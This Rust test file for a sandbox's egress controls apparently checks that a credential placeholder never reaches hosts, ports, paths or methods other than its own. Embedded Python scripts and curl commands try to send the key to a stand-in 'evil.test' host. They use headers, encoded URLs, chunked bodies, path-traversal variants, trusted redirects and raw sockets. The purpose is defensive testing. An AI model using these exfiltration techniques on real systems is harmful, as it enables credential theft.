//! A secret goes to its place and nowhere else: not to another host, port, path or method, not in the clear, not in
//! another part of a request. Judged by what hosts outside got.

use belljar_spec::BackendName;
use belljar_spec::egress::{EgressPolicy, Mode, Reason, RequestFilter};
use belljar_tests_containment::credentials::*;
use belljar_tests_containment::egress::*;
use belljar_tests_containment::*;
use belljar_tests_hosts::{Authority, Capture, Dns, HttpServer, Request, Response};

/// A host where the secret belongs, and others that only keep what they get.
struct Hosts {
    dns: Dns,
    authority: Authority,
    good: HttpServer,
    /// The same name at another port.
    beside: HttpServer,
    /// Another name, looked into.
    evil: HttpServer,
    /// The same name in the clear.
    plain: HttpServer,
}

fn hosts() -> Hosts {
    let authority = Authority::new();
    let address = at("127.66.9.1");
    let dns = Dns::start(move |query| match query.name.as_str() {
        "good.test" | "evil.test" | "blind.test" => vec![address],
        _ => Vec::new(),
    });
    let leaf = |name: &str| authority.leaf([name]);
    let evil = HttpServer::start_tls(address, &leaf("evil.test"), |_| Response::ok("got it"));
    let elsewhere = format!("https://evil.test:{}/v1/x", evil.port());
    let good = HttpServer::start_tls(address, &leaf("good.test"), move |request| {
        match request.target.starts_with("/v1/redirect") {
            true => Response::redirect(307, &elsewhere),
            false => Response::ok("fine"),
        }
    });
    let beside = HttpServer::start_tls(address, &leaf("good.test"), |_| Response::ok("got it"));
    let plain = HttpServer::start(address, |_| Response::ok("got it"));
    Hosts { dns, authority, good, beside, evil, plain }
}

impl Hosts {
    /// Everything may be reached; TLS is looked into at the hosts that keep what they get.
    fn policy(&self) -> EgressPolicy {
        let rules = [
            format!("=good.test:{}/tls", self.good.port()),
            format!("=good.test:{}/tls", self.beside.port()),
            format!("=evil.test:{}/tls", self.evil.port()),
            format!("=good.test:{}/http", self.plain.port()),
        ];
        let mut policy = policy(&self.dns, &rules.each_ref().map(String::as_str));
        for rule in &mut policy.allow[1..3] {
            rule.requests = Some(RequestFilter::ANY);
        }
        policy.authorities = self.authority.pem().into_bytes();
        policy
    }

    fn ports(&self) -> [String; 4] {
        [&self.good, &self.beside, &self.evil, &self.plain].map(|server| server.port().to_string())
    }
}

fn holds(request: &Request, text: &str) -> bool {
    let headers = request.headers.iter().any(|(name, value)| name.contains(text) || value.contains(text));
    headers || request.target.contains(text) || String::from_utf8_lossy(&request.body).contains(text)
}

#[test]
fn a_placeholder_elsewhere_is_refused_and_recorded() {
    for backend in backends() {
        let hosts = hosts();
        let cage = cage_with_key(*backend, &hosts.policy(), credential("good.test", hosts.good.port()));
        let [good, beside, evil, plain] = hosts.ports();
        cage.attack(
            &format!(
                r#"{ASK}
good, beside, evil, plain = sys.argv[1:5]
key, bearer = ('x-api-key', KEY), ('Authorization', 'Bearer ' + KEY)
encoded = ''.join('%%%02X' % byte for byte in KEY.encode())
def basic(pair):
    return ('Authorization', 'Basic ' + base64.b64encode(pair.encode()).decode())
# Other hosts, ports, and in the clear.
for header in (key, bearer, basic('me:' + KEY), basic(KEY + ':'), ('Cookie', 'a=' + KEY), ('X-Other', 'x' + KEY + 'x')):
    ask('evil.test', evil, headers=[header])
    ask('EVIL.test', evil, headers=[header])
    ask('good.test', beside, headers=[header])
    ask('good.test', plain, headers=[header], tls=False)
    ask('GOOD.TEST', plain, headers=[header], tls=False)
for target in ('/v1/x?key=' + KEY, '/v1/' + KEY, '/v1/x?key=' + encoded, '/' + encoded.replace('%', '%25')):
    ask('evil.test', evil, target=target)
    ask('good.test', beside, target=target)
    ask('good.test', plain, target=target, tls=False)
for body in (KEY.encode(), b'x' * 70000 + KEY.encode() + b'y' * 70000, base64.b64encode(b'a' + KEY.encode() + b'b')):
    ask('evil.test', evil, 'POST', body=body)
    ask('good.test', plain, 'POST', body=body, tls=False)
# Another path and another method of its own host.
for target in ('/', '/v2/x', '/v1x', '/v1/../v2/x', '/v1/%2e%2e/v2/x', '/v1/..%2fv2', '/v1/%252e%252e/v2', '/V1/x', '//v1/x'):
    ask('good.test', good, target=target, headers=[key])
for method in ('PUT', 'DELETE', 'PATCH', 'TRACE', 'OPTIONS', 'get', 'CONNECT'):
    ask('good.test', good, method, headers=[key])
# Another part of a request to its own place.
for headers in ([('X-Other', KEY)], [key, ('X-Other', KEY)], [('x-api-key', KEY + 'x')], [('x-api-key', 'Bearer ' + KEY)],
        [basic('me:' + KEY)], [('Cookie', 'k=' + KEY)], [('Referer', 'https://x/?' + KEY)], [('X-' + KEY, '1')]):
    ask('good.test', good, headers=headers)
for target in ('/v1/x?key=' + KEY, '/v1/' + KEY, '/v1/x?a=' + encoded):
    ask('good.test', good, target=target)
ask('good.test', good, 'POST', headers=[key], body=b'{{"note": "' + KEY.encode() + b'"}}')
"#
            ),
            &[&good, &beside, &evil, &plain],
        );
        let arrived =
            |server: &HttpServer| server.requests().iter().map(|it| it.target.clone()).collect::<Vec<_>>();
        for (what, server) in [
            ("another port", &hosts.beside),
            ("another host", &hosts.evil),
            ("in the clear", &hosts.plain),
            ("its place", &hosts.good),
        ] {
            let none: [&str; 0] = [];
            assert_eq!(arrived(server), none, "{backend}: {what}");
        }
        assert!(!cage.refused_for(Reason::PlaceholderElsewhere).is_empty(), "{backend}");
        let lines = cage.lines();
        let incidents =
            lines.iter().filter(|line| line.contains(r#""kind":"placeholder_elsewhere""#)).count();
        assert!(incidents >= 8, "{backend}: {incidents}");
        assert!(!lines.concat().contains(REAL), "{backend}");
        // And where it belongs it goes.
        cage.attack(&format!("{ASK}\nask('good.test', sys.argv[1], headers=[('x-api-key', KEY)])"), &[&good]);
        let requests = hosts.good.requests();
        assert_eq!(requests.len(), 1, "{backend}");
        assert_eq!(requests[0].header("x-api-key"), Some(REAL), "{backend}");
    }
}

#[test]
fn a_placeholder_split_over_pieces_of_a_body_does_not_arrive() {
    for backend in gateway_backends() {
        let hosts = hosts();
        let cage = cage_with_key(*backend, &hosts.policy(), credential("good.test", hosts.good.port()));
        let [good, _, evil, plain] = hosts.ports();
        cage.attack(
            &format!(
                r#"{ASK}
good, evil, plain = sys.argv[1:4]
key = ('x-api-key', KEY)
def chunk(data):
    return b'%x\r\n' % len(data) + data + b'\r\n'
for cut in range(0, len(KEY) + 1, 3):
    for host, port, tls, headers in (('evil.test', evil, True, []), ('good.test', plain, False, []), ('good.test', good, True, [key])):
        pieces = [b'before ' + KEY[:cut].encode(), KEY[cut:].encode() + b' after']
        whole = b''.join(pieces)
        start = head(host, port, 'POST', headers=headers, length=len(whole))
        raw(host, port, [start + pieces[0], pieces[1]], tls, pause=0.02)
        start = head(host, port, 'POST', headers=headers + [('Transfer-Encoding', 'chunked')])
        raw(host, port, [start + chunk(pieces[0]), chunk(pieces[1]) + b'0\r\n\r\n'], tls, pause=0.02)
start = head('evil.test', evil, 'POST', headers=[('Transfer-Encoding', 'chunked')])
raw('evil.test', evil, [start + b''.join(chunk(bytes([byte])) for byte in KEY.encode()) + b'0\r\n\r\n'])
"#
            ),
            &[&good, &evil, &plain],
        );
        for server in [&hosts.evil, &hosts.plain, &hosts.good] {
            assert_eq!(server.requests().len(), 0, "{backend}");
        }
    }
}

#[test]
fn a_redirect_takes_nothing_along() {
    for backend in gateway_backends() {
        let hosts = hosts();
        let cage = cage_with_key(*backend, &hosts.policy(), credential("good.test", hosts.good.port()));
        let [good, ..] = hosts.ports();
        // A client that is told to send its key to every host that it is redirected to.
        cage.jail.sh(&format!(
            "curl -sS -L --location-trusted -H \"x-api-key: $KEY\" https://good.test:{good}/v1/redirect; \
             curl -sS -L --location-trusted -H \"Authorization: Bearer $KEY\" https://good.test:{good}/v1/redirect; \
             curl -sS -L https://good.test:{good}/v1/redirect"
        ));
        let sent = hosts.good.requests();
        assert_eq!(
            sent.iter().map(|request| holds(request, REAL)).collect::<Vec<_>>(),
            [true, true, false],
            "{backend}"
        );
        let got = hosts.evil.requests();
        assert_eq!(got.len(), 1, "{backend}: only the one that had nothing to tell");
        assert!(!holds(&got[0], REAL) && !holds(&got[0], &cage.placeholder()), "{backend}");
    }
}

/// An allowed host leads an innocent program to the place of a secret, which it does not hold.
#[test]
fn a_redirect_to_the_place_brings_no_secret_along() {
    let hosts = hosts();
    let to = format!("https://good.test:{}/v1/issues", hosts.good.port());
    let leads = HttpServer::start_tls(at("127.66.9.1"), &hosts.authority.leaf(["evil.test"]), move |_| {
        Response::redirect(307, &to)
    });
    let mut policy = hosts.policy();
    policy.allow.push(format!("=evil.test:{}/tls", leads.port()).parse().unwrap());
    policy.inspect = true;
    let cage = cage_with_key(BackendName::Native, &policy, credential("good.test", hosts.good.port()));
    let url = format!("https://evil.test:{}/", leads.port());
    cage.jail.sh(&format!("unset KEY; curl -sS -L -d title=x {url}; curl -sS -L {url}"));
    let arrived = hosts.good.requests();
    assert_eq!(arrived.len(), 2);
    assert!(!arrived.iter().any(|request| holds(request, REAL)), "{arrived:?}");
}

#[test]
fn without_interception_only_a_placeholder_arrives() {
    for backend in gateway_backends() {
        let hosts = hosts();
        let blind = HttpServer::start_tls(at("127.66.9.1"), &hosts.authority.leaf(["blind.test"]), |_| {
            Response::ok("got it")
        });
        let rules =
            [format!("=good.test:{}/tls", hosts.good.port()), format!("=blind.test:{}/tls", blind.port())];
        let mut policy = policy(&hosts.dns, &rules.each_ref().map(String::as_str));
        policy.authorities = hosts.authority.pem().into_bytes();
        let cage = cage_with_key(*backend, &policy, credential("good.test", hosts.good.port()));
        std::fs::write(cage.jail.workspace.path().join("ca.pem"), hosts.authority.pem()).unwrap();
        let port = blind.port();
        cage.jail
            .sh(&format!("curl -sS --cacert ca.pem -H \"x-api-key: $KEY\" https://blind.test:{port}/v1/x"));
        let got = blind.requests();
        assert_eq!(got.len(), 1, "{backend}");
        assert_eq!(got[0].header("x-api-key"), Some(cage.placeholder().as_str()), "{backend}");
        assert!(!holds(&got[0], REAL), "{backend}");

        // Who has everything looked into has it stopped there too, and what has no placeholder in it passes.
        policy.inspect = true;
        let cage = cage_with_key(*backend, &policy, credential("good.test", hosts.good.port()));
        let url = format!("https://blind.test:{port}/v1/x");
        cage.jail.sh(&format!("curl -sS -H \"x-api-key: $KEY\" {url}; curl -sS -d \"a $KEY b\" {url}"));
        assert_eq!(blind.requests().len(), 1, "{backend}: nothing more has arrived");
        assert!(!cage.refused_for(Reason::PlaceholderElsewhere).is_empty(), "{backend}");
        cage.jail.sh(&format!("curl -sS {url}"));
        assert_eq!(blind.requests().len(), 2, "{backend}");
        let own = format!("https://good.test:{}/v1/x", hosts.good.port());
        cage.jail.sh(&format!("curl -sS -H \"x-api-key: $KEY\" {own}"));
        assert_eq!(
            hosts.good.requests()[0].header("x-api-key"),
            Some(REAL),
            "{backend}: and its own place gets it"
        );

        // Nor does it help to begin late, or as something else, where every name is open.
        policy.mode = Mode::Open;
        policy.allow.clear();
        let capture = Capture::start(at("127.66.9.1"));
        let cage = cage_with_key(*backend, &policy, credential("good.test", hosts.good.port()));
        cage.attack(
            &format!(
                r#"{ASK}
import socket, ssl, time
def dial(port):
    return socket.create_connection(('blind.test', int(port)), 5)
try:
    late = dial(sys.argv[1])
    time.sleep(0.6)
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    late = context.wrap_socket(late, server_hostname='blind.test')
    late.sendall(('GET /v1/x HTTP/1.1\r\nhost: blind.test:%s\r\nx-api-key: %s\r\n\r\n' % (sys.argv[1], KEY)).encode())
    late.recv(100)
except OSError:
    pass
for first in (b'', b'\0', b'SSH-2.0-x\r\n', b'\0\0\0\x08\x04\xd2\x16\x2f'):
    try:
        plain = dial(sys.argv[2])
        time.sleep(0 if first else 0.6)
        plain.sendall(first + b'\1' + KEY.encode())
        plain.settimeout(2)
        plain.recv(100)
    except OSError:
        pass
"#
            ),
            &[&port.to_string(), &capture.port().to_string()],
        );
        assert_eq!(blind.requests().len(), 2, "{backend}: nothing more has arrived");
        let received = String::from_utf8_lossy(&capture.connections().concat()).into_owned();
        assert!(!received.contains(&cage.placeholder()), "{backend}: {received}");
    }
}

#[test]
fn a_server_that_only_says_it_is_the_place_gets_nothing() {
    for backend in gateway_backends() {
        let hosts = hosts();
        // Another authority than the one that is trusted, and a server that does not speak TLS at all.
        let stranger = Authority::new();
        let fake = HttpServer::start_tls(at("127.66.9.1"), &stranger.leaf(["good.test"]), |_| {
            Response::ok("got it")
        });
        let mute = Capture::start(at("127.66.9.1"));
        for port in [fake.port(), mute.port()] {
            let mut policy = policy(&hosts.dns, &[&format!("=good.test:{port}/tls")]);
            policy.authorities = hosts.authority.pem().into_bytes();
            let cage = cage_with_key(*backend, &policy, credential("good.test", port));
            let script = format!("{ASK}\nask('good.test', sys.argv[1], headers=[('x-api-key', KEY)])");
            cage.attack(&script, &[&port.to_string()]);
        }
        assert_eq!(fake.requests().len(), 0, "{backend}");
        let received = String::from_utf8_lossy(&mute.connections().concat()).into_owned();
        assert!(!received.contains(REAL), "{backend}");
    }
}
